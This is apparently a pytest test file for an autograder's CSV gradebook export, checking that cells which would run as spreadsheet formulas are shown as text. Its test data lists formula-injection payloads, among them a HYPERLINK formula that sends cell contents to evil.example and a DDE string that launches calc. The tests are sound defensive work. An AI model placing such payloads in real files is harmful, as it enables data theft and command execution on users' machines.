"""Every CSV the toolkit writes is safe to open in a spreadsheet: no cell is a live formula."""

import csv
import io

import pytest

from autograder.grading.csvsafe import TRIGGERS, neutralised
from autograder.grading.gradebook import gradebook_csv
from autograder.judge.casebook import Casebook, JudgedQuestion

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1", "-"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_run_is_shown_as_text(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1", "-0.25", "+3", "0.5", "1e-05", "Ada Lovelace", "", "a=b", "x-1"])
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert neutralised(cell) == cell


def test_the_gradebook_has_no_live_formula_whatever_the_metadata_says():
    casebook = Casebook("hw", 1, (JudgedQuestion("q1", "f", 1.0, ()),), "assignment.hw.cases")
    records = [{"id": f"s{i}", "student": {"name": bad, "email": bad, "sid": bad},
                "verdict": {"questions": [{"name": "q1", "score": 1.0}]}, "grading_status": bad}
               for i, bad in enumerate(HOSTILE)]
    rows = list(csv.reader(io.StringIO(gradebook_csv(casebook, records), newline="")))
    cells = [cell for row in rows[2:] for cell in row]
    live = [c for c in cells if c.startswith(TRIGGERS) and neutralised(c) != c]
    assert not live, live
    assert rows[1][-1] == "--"  # otter's points row, the toolkit's own text, as otter writes it
    by_id = {row[0]: row for row in rows[2:]}
    assert by_id["s0"][1] == "'" + HOSTILE[0] and by_id["s0"][4] == "1"  # the name shown as text, the score a number
